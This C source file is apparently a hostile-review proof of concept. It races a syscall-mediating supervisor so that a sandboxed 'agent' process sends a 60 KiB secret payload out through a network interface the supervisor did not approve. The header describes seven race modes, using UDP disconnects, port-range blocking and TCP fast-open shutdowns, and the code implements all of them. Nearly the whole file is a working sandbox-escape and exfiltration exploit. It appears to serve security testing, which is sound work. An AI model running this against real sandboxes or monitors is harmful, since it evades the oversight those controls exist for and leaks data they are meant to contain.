/* ha16-race: hostile review h-attack16 (against main 9886fc1). give_port
 * (supervisor/call.c) gives a portless datagram socket its port before the
 * supervisor reads the socket's device, so that a bind(fe80::dead%IFNAME)
 * racing the judgement fails with EINVAL before __inet6_bind writes the
 * scope id into sk_bound_dev_if (reviews h-attack14, h-attack15). The port
 * can be taken away again by a call the supervisor itself allows and
 * performs: connect(AF_UNSPEC) on a UDP socket is judged "disconnect"
 * (allowed while the socket has no device) and __udp_disconnect unhashes a
 * socket whose port the kernel chose (no SOCK_BINDPORT_LOCK: give_port
 * binds port 0), setting inet_num to 0. The failed bind then writes the
 * scope id as before c8ea553, and the supervisor's own send, whose device
 * it already judged, leaves by IFNAME.
 *
 *   disc     a second thread waits until the supervisor starts reading the
 *            payload (mincore on the first page of a file mapping dropped
 *            from the page cache: ha14-mmsg's timing), then
 *            connect(AF_UNSPEC) (mediated, allowed, performed: the port is
 *            gone) and bind(fe80::dead%IFNAME) (fails, the device stays).
 *            The main thread's sendto(::ffff:DEST, 60 KiB) leaves by IFNAME.
 *   discmmsg the same with sendmmsg of one message.
 *   range    no mediated call in the race: IP_LOCAL_PORT_RANGE (6.3+, no
 *            capability, not trapped) narrows the socket's ephemeral range
 *            to one port, which a second socket of the agent's holds, so
 *            give_port's bind fails (EADDRINUSE; give_port is quiet about
 *            it). In the payload read window the second thread makes the
 *            failed bind (the socket is still portless: the device is
 *            written) and closes the blocker; the supervisor's send then
 *            autobinds to the freed port and leaves by IFNAME.
 *   rangetfo the same on a TCP socket sending with MSG_FASTOPEN (give_port
 *            binds stream sockets for a fast-open send): the connect and
 *            the whole payload leave by IFNAME.
 *   tfoshut  no mediated call in the race and no give_port failure: a TCP
 *            socket connect()ed (mediated, allowed) to DEST with
 *            TCP_FASTOPEN_CONNECT waits in SYN_SENT with its port and sends
 *            nothing; sendto(DEST, MSG_FASTOPEN) then finds a port, so
 *            give_port does nothing. In the payload read window the second
 *            thread calls shutdown() (not trapped: inet_shutdown runs
 *            tcp_disconnect on a SYN_SENT socket, which gives the port
 *            back and leaves the socket unconnected) and the failed bind;
 *            the supervisor's fast-open send connects anew by IFNAME.
 *   synshut  no mediated call in the race, no give_port failure, no
 *            capability: a TCP socket connect()s (mediated, allowed,
 *            non-blocking: EINPROGRESS) to a declared DEST that does not
 *            answer (SYN_SENT, with its port), then sendto(DEST,
 *            MSG_FASTOPEN) blocking: the socket has a port, so give_port
 *            does nothing. In the payload read window the second thread
 *            calls shutdown() (not trapped: on a SYN_SENT socket
 *            inet_shutdown runs tcp_disconnect, which gives the port back
 *            and leaves the socket unconnected, SS_UNCONNECTED) and the
 *            failed bind; the supervisor's fast-open send connects anew,
 *            by IFNAME, where another host answers for DEST, and writes the
 *            payload to it.
 *   rangenb  control for range: the blocker closed without the failed bind.
 *   udp      control: the failed bind alone (held by c8ea553: EINVAL).
 *
 *   ha16-race MODE DEST:PORT IFNAME FILE   (FILE: created by the agent)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#define PAYLOAD 61440

#ifndef IP_LOCAL_PORT_RANGE
#define IP_LOCAL_PORT_RANGE 51
#endif
#define ONE_PORT 40000

static int sock, blocker = -1;
static unsigned ifindex;
static unsigned char *map;
static const char *mode;
static volatile int bind_rc = 1, bind_err, disc_rc = 1, disc_err, polls;

static void *racer(void *arg)
{
	struct sockaddr_in6 ll = {.sin6_family = AF_INET6};
	struct sockaddr unspec = {.sa_family = AF_UNSPEC};
	unsigned char vec;
	(void)arg;

	inet_pton(AF_INET6, "fe80::dead", &ll.sin6_addr);
	ll.sin6_scope_id = ifindex;
	for (long i = 0; i < 200000000L; i++) {
		if (mincore(map, 4096, &vec) == 0 && (vec & 1))
			break;
		polls++;
	}
	/* HA16_DELAY_US: wait that long after the payload page came in (with
	 * the test build's device_window, 300 ms after the device is judged,
	 * the steps below land between the judgement and the act). */
	if (getenv("HA16_DELAY_US"))
		usleep((useconds_t)atoi(getenv("HA16_DELAY_US")));
	if (strncmp(mode, "disc", 4) == 0) {
		disc_rc = connect(sock, &unspec, sizeof(unspec));
		disc_err = errno;
	}
	if (strcmp(mode, "tfoshut") == 0 || strcmp(mode, "synshut") == 0) {
		disc_rc = shutdown(sock, SHUT_RDWR);
		disc_err = errno;
	}
	if (strcmp(mode, "rangenb") != 0) {
		bind_rc = bind(sock, (struct sockaddr *)&ll, sizeof(ll));
		bind_err = errno;
	}
	if (blocker >= 0)
		close(blocker);
	return NULL;
}

int main(int argc, char **argv)
{
	struct sockaddr_in6 dst = {.sin6_family = AF_INET6}, me;
	socklen_t ml = sizeof(me);
	char host[64], dev[IFNAMSIZ + 1] = "", *colon;
	socklen_t dl = sizeof(dev) - 1;
	pthread_t t;
	int fd, tcp;
	long rc;

	if (argc != 5) {
		fprintf(stderr, "usage: ha16-race MODE DEST:PORT IFNAME FILE\n");
		return 2;
	}
	mode = argv[1];
	snprintf(host, sizeof(host), "::ffff:%s", argv[2]);
	colon = strrchr(host, ':');
	*colon = '\0';
	dst.sin6_port = htons((unsigned short)atoi(colon + 1));
	if (inet_pton(AF_INET6, host, &dst.sin6_addr) != 1)
		return 2;
	ifindex = if_nametoindex(argv[3]);
	fd = open(argv[4], O_RDWR | O_CREAT | O_TRUNC, 0600);
	if (fd < 0) {
		perror("agent: open");
		return 2;
	}
	for (int off = 0; off < PAYLOAD; off += 32) {
		char line[33];

		snprintf(line, sizeof(line), "agent-secret via %-14.14s;", mode);
		if (write(fd, line, 32) != 32)
			return 2;
	}
	map = mmap(NULL, PAYLOAD, PROT_READ, MAP_SHARED, fd, 0);
	if (map == MAP_FAILED)
		return 2;
	madvise(map, PAYLOAD, MADV_RANDOM);
	fdatasync(fd);
	/* Dropped from the page cache before the race starts: the first
	 * page turns resident only when the supervisor reads it. */
	for (int i = 0; i < 100; i++) {
		unsigned char vec[PAYLOAD / 4096];

		posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
		if (mincore(map, PAYLOAD, vec) == 0 && !(vec[0] & 1))
			break;
		usleep(10 * 1000);
	}
	tcp = strcmp(mode, "rangetfo") == 0 || strcmp(mode, "tfoshut") == 0 ||
	      strcmp(mode, "synshut") == 0;
	sock = socket(AF_INET6, tcp ? SOCK_STREAM : SOCK_DGRAM, 0);
	if (strncmp(mode, "range", 5) == 0) {
		struct sockaddr_in6 any = {.sin6_family = AF_INET6, .sin6_port = htons(ONE_PORT)};
		unsigned range = ONE_PORT | (unsigned)ONE_PORT << 16;

		if (setsockopt(sock, IPPROTO_IP, IP_LOCAL_PORT_RANGE, &range, sizeof(range)) != 0)
			perror("agent: IP_LOCAL_PORT_RANGE");
		blocker = socket(AF_INET6, tcp ? SOCK_STREAM : SOCK_DGRAM, 0);
		if (bind(blocker, (struct sockaddr *)&any, sizeof(any)) != 0)
			perror("agent: blocker bind");
	}
	if (strcmp(mode, "tfoshut") == 0) {
		int one = 1;

		if (setsockopt(sock, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof(one)) != 0)
			perror("agent: TCP_FASTOPEN_CONNECT");
		rc = connect(sock, (struct sockaddr *)&dst, sizeof(dst));
		printf("agent: tfoshut: deferred connect = %ld (%s)\n", rc,
		       rc < 0 ? strerror(errno) : "ok");
	}
	if (strcmp(mode, "synshut") == 0) {
		int nb = 1;

		ioctl(sock, FIONBIO, &nb);
		rc = connect(sock, (struct sockaddr *)&dst, sizeof(dst));
		printf("agent: synshut: non-blocking connect = %ld (%s)\n", rc,
		       rc < 0 ? strerror(errno) : "ok");
		nb = 0;
		ioctl(sock, FIONBIO, &nb);
	}
	if (pthread_create(&t, NULL, racer, NULL) != 0)
		return 2;
	usleep(1000);
	if (strcmp(mode, "discmmsg") == 0) {
		struct iovec iov = {.iov_base = map, .iov_len = PAYLOAD};
		struct mmsghdr mm = {.msg_hdr = {.msg_name = &dst,
						 .msg_namelen = sizeof(dst),
						 .msg_iov = &iov,
						 .msg_iovlen = 1}};

		rc = sendmmsg(sock, &mm, 1, 0);
	} else {
		rc = sendto(sock, map, PAYLOAD, tcp ? MSG_FASTOPEN : 0, (struct sockaddr *)&dst,
			    sizeof(dst));
	}
	printf("agent: %s send = %ld (%s)\n", mode, rc, rc < 0 ? strerror(errno) : "ok");
	pthread_join(t, NULL);
	if (strcmp(mode, "tfoshut") == 0 || strcmp(mode, "synshut") == 0)
		printf("agent: racing shutdown = %d (%s)\n", disc_rc,
		       disc_rc ? strerror(disc_err) : "ok");
	if (strncmp(mode, "disc", 4) == 0)
		printf("agent: racing connect(AF_UNSPEC) = %d (%s)\n", disc_rc,
		       disc_rc ? strerror(disc_err) : "ok");
	printf("agent: racing bind(fe80::dead%%%s) = %d (%s) after %d polls\n", argv[3], bind_rc,
	       bind_rc ? strerror(bind_err) : "ok", polls);
	getsockopt(sock, SOL_SOCKET, SO_BINDTODEVICE, dev, &dl);
	getsockname(sock, (struct sockaddr *)&me, &ml);
	printf("agent: socket now bound to device '%s', port %u\n", dev, ntohs(me.sin6_port));
	usleep(500 * 1000);
	if (tcp)
		shutdown(sock, SHUT_WR);
	usleep(200 * 1000);
	return 0;
}
